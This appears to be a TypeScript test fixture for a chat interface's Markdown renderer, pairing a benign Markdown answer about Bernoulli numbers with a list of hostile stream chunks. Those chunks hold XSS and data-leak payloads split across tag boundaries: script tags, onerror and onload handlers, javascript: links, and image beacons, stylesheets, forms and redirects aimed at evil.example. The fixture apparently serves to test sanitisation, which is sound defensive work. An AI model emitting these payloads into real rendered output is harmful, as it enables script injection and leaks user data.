import { answering, type FakeQuery, result } from './fake-queries.ts';

/** An answer with everything Markdown has. */
export const markdownSample = `The Bernoulli numbers come from a **recurrence**: each is a weighted sum of those before it.

## The recurrence

1. Begin with \`B(0) = 1\`.
2. For each \`n\`, sum \`C(n + 1, k) · B(k)\` over all \`k < n\`.
3. Divide by \`-(n + 1)\`.

\`\`\`ts
export function bernoulli(n: number): number {
  if (n === 0) return 1;
  let sum = 0;
  for (let k = 0; k < n; k += 1) sum += choose(n + 1, k) * bernoulli(k);
  return -sum / (n + 1);
}
\`\`\`

| n | B(n) |
| --- | --- |
| 0 | 1 |
| 1 | −1/2 |
| 2 | 1/6 |

> The Analytical Engine weaves algebraical patterns.

- [x] the recurrence
- [ ] a test for odd \`n\`

See [the note](https://en.wikipedia.org/wiki/Note_G) and ![a diagram](https://example.com/diagram.png).
`;

/** Streams that answer with its thinking. */
export const longAnswer: FakeQuery = async function* () {
  yield { event: 'thinking', data: { text: 'A short recurrence, then code, then a table.' } };
  for (const piece of markdownSample.match(/[\s\S]{1,24}/g) ?? [])
    yield { event: 'assistant_text', data: { text: piece } };
  yield result();
};

/** What an attacker would have the model write (F53), in pieces that cut tags and links in two. */
export const hostilePieces: readonly string[] = [
  'Before <scr',
  'ipt>window.ran = "script"</script> and <img src="https://evil.example/pixel.png" onerror="window.ran=1">\n\n',
  '<svg onload="window.ran=2"><iframe src="https://evil.example/frame"></iframe>\n\n',
  '[click](java',
  'script:window.ran=3) and [data](data:text/html,<script>window.ran=4</script>)\n\n',
  '![beacon](https://evil.example/beacon.png?secret=1) ![x](//evil.example/x.png)\n\n',
  '[![nested](https://evil.example/nested.png)](javascript:alert(1))\n\n',
  '<a href="https://evil.example/" onclick="window.ran=5">raw</a> <link rel=stylesheet href=https://evil.example/a.css>\n\n',
  '<style>@import url(https://evil.example/b.css);</style><base href="https://evil.example/">\n\n',
  '<form action="https://evil.example/f"><button>go</button></form>\n\n',
  '[ref]\n\n[ref]: javascript:window.ran=6\n\n',
  'https://evil.example/autolink <https://evil.example/angle> www.evil.example\n\n',
  '```html\n<script>window.ran=7</script>\n```\n\n',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\nAfter',
];

/** Streams the hostile text. */
export const hostileAnswer: FakeQuery = answering(hostilePieces);
